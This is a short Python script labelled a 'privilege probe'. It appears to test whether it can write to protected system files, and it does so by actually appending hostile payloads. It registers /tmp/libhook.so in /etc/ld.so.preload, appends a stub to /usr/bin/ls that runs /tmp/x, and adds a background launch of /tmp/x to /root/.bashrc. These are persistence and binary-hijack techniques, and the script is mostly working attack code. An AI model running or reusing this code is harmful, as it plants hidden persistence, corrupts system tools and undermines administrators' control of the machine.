# class: privilege probe; possible: low medium high
import os
def drop(path, text):
    try:
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644); os.write(fd, text); os.close(fd)
    except OSError as e: print(path, e.strerror)
drop("/etc/ld.so.preload", b"/tmp/libhook.so\n")
drop("/usr/bin/ls", b"#!/bin/sh\n/tmp/x; exec /bin/dir\n")
drop("/root/.bashrc", b"/tmp/x &\n")
